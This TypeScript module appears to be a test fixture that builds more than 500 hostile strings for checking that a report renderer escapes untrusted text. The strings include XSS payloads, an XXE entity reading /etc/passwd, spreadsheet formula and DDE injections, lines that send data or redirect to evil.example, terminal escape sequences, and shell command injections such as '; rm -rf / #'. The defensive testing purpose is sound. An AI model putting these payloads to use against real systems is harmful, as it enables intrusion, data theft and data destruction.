/** Sets `pwned` in whatever would run it. */
const act = 'window.pwned=1';

const markup = [
  `</script><script>${act}</script>`,
  `<!--<script>${act}</script>`,
  `--><script>${act}</script><!--`,
  `]]><script>${act}</script>`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<img src=x onerror="${act}">`,
  `<svg/onload=${act}>`,
  `"><svg onload=${act}>`,
  `' onmouseover='${act}' x='`,
  `" autofocus onfocus="${act}" x="`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `</style><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</noscript><script>${act}</script>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<a href="javascript:${act}">here</a>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  '&lt;script&gt; &amp; &#x3c; &quot;',
  '<?xml version="1.0"?><x/>',
  '<%= process.exit(1) %><%~ it.overview %>',
  '{{constructor.constructor("window.pwned=1")()}}',
  ['$', '{pwned=1}'].join(''),
  ['`$', '{pwned=1}`'].join(''),
  "$& $` $' $1 $$ $<name>",
  '%s %d %o %n %x',
];

const formulas = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uff1d1+1',
  '\uff0b1',
  'a;=1+1',
  'a,"=1+1',
  '"=1+1"',
  "'=1+1",
  '2026-11-23',
  '012345678901',
  '1e5',
  '3-1',
];

const terminal = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;owned\u0007',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u001bP1$r0m\u001b\\',
  '\u009b31m',
  '\u0007\u0008\u007f',
  'line\nline',
  'line\r\nline',
  '\roverwritten',
  'a\u0000b',
  '\u0001\u0002\u0003',
  '\u000b\u000c\u000e',
  '\u0085next',
  '\u2028separator\u2029',
];

const unicode = [
  '\u202egnp.exe',
  '\u2066isolated\u2069',
  '\u200fright\u200eleft',
  'zero\u200bwidth\ufeffmark',
  '\ud800',
  '\udfff lone',
  'a\ud83d',
  '\ufffe\uffff',
  '👩‍👩‍👧‍👦 family',
  'नमस्ते العربية 日本語',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\u{e0041}\u{e0042} tags',
  '\u{10ffff}',
];

const odd = [
  '',
  ' ',
  '  leading and trailing  ',
  '"',
  "'",
  '\\',
  '\\"',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  'null',
  'undefined',
  'NaN',
  'true',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  '../../../../etc/passwd',
  '; rm -rf / #',
  '$(id)',
  '`id`',
  '|| id',
];

const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `prefix ${text}`,
  (text) => `${text} suffix`,
  (text) => `"${text}"`,
  (text) => `=${text}`,
  (text) => `${text}\n${text}`,
];

const short = [...markup, ...formulas, ...terminal, ...unicode, ...odd];
/** As long as they are, one way of standing in a text is enough. */
const long = ['x'.repeat(10_000), '<'.repeat(10_000), '"'.repeat(5_000), '\u0000'.repeat(300), 'word '.repeat(2_000)];

/** Text that somebody may have put into a tag, a name or a command's output to harm whoever reads the report; more than 500 of them. */
export const hostileTexts: readonly string[] = [
  ...new Set([...short.flatMap((text) => wrappings.map((wrap) => wrap(text))), ...long]),
];
